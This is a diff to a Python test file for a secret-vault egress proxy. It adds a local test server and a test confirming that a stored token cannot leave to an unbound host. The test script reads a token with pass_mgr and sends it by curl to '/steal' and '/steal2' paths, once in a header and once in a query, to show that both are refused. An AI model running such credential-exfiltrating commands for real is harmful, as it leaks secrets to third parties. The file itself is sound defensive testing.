@@ -56,7 +56,9 @@ def world(tmp_path_factory):
     upstream_ca = root / "upstream-ca.pem"
     upstream_ca.write_bytes(TEST_CA.certificate_pem)
     with tools_upstream(TEST_CA, REAL, root / "a", host=HOST, address=HOST) as (a, got_a), \
-            tools_upstream(TEST_CA, OTHER, root / "b", host=HOST, address=HOST) as (b, got_b):
+            tools_upstream(TEST_CA, OTHER, root / "b", host=HOST, address=HOST) as (b, got_b), \
+            tools_upstream(TEST_CA, "no secret here", root / "c", host=HOST,
+                           address=HOST) as (c, got_c):
         home, ws, ws2 = root / "home", root / "ws", root / "ws2"
         for d in (home, ws, ws2):
             d.mkdir(mode=0o700)
@@ -76,11 +78,11 @@ def world(tmp_path_factory):
             if node and not node.startswith("/usr/") else {}
         daemon = Daemon(home, **extra, PADDEDCELL_VAULT_KDF_ITERATIONS="1",
                         PADDEDCELL_VAULT_KDF_MEMORY_KIB="64", PADDEDCELL_VAULT_KDF_LANES="1",
-                        PADDEDCELL_SUPERVISOR_SANDBOX_ALLOW_LOCAL=f"{HOST}:{a},{HOST}:{b}",
+                        PADDEDCELL_SUPERVISOR_SANDBOX_ALLOW_LOCAL=f"{HOST}:{a},{HOST}:{b},{HOST}:{c}",
                         PADDEDCELL_EGRESS_EXTRA_UPSTREAM_CA_FILE=str(upstream_ca))
         try:
             yield {"daemon": daemon, "ws": ws, "ws2": ws2, "a": a, "b": b, "got_a": got_a,
-                   "got_b": got_b, "home": home, "upstream_ca": str(upstream_ca)}
+                   "got_b": got_b, "c": c, "got_c": got_c, "home": home, "upstream_ca": str(upstream_ca)}
         finally:
             daemon.stop()
 
@@ -146,6 +148,27 @@ def test_a_placeholder_toward_another_host_is_refused_and_audited(world):
     assert REAL not in audit and FRAGMENT not in audit
     refused = [json.loads(line) for line in audit.splitlines() if '"egress.refused"' in line]
     assert any(r.get("key") == "gh" and r.get("host") == HOST for r in refused), refused
+
+
+def test_an_unbound_host_is_searched_once_the_session_holds_a_placeholder(world):
+    """C is bound to nothing: before the session's first placeholder its HTTPS is a blind
+    tunnel (curl meets C's own certificate, from a CA the session does not trust); after
+    it, it is terminated — the placeholder is refused in a header and percent-encoded in
+    the query, and a clean request goes through (a session leaf the client trusts; C is
+    verified by the proxy)."""
+    c, got_c = world["c"], world["got_c"]
+    before = len(got_c)
+    out = run(world, f"""
+        curl -sS https://{HOST}:{c}/before -o /dev/null -w 'before %{{http_code}}\\n' 2>&1
+        t=$(pass_mgr get gh)
+        curl -sS -H "Authorization: Bearer $t" https://{HOST}:{c}/steal; echo
+        curl -sS --get --data-urlencode "t=$t" https://{HOST}:{c}/steal2; echo
+        curl -sS https://{HOST}:{c}/clean -o /dev/null -w 'clean %{{http_code}}\\n'
+    """)
+    assert "before 000" in out and "SSL certificate problem" in out, out
+    assert "clean 401" in out, out  # reached: C wants a secret of its own
+    assert out.count(f"egress refused: gh is bound to {HOST}:{world['a']}") == 2, out
+    assert [r["path"] for r in got_c[before:]] == ["/clean"]
 
 
 def test_git_clone_and_push_inside_a_session(world):
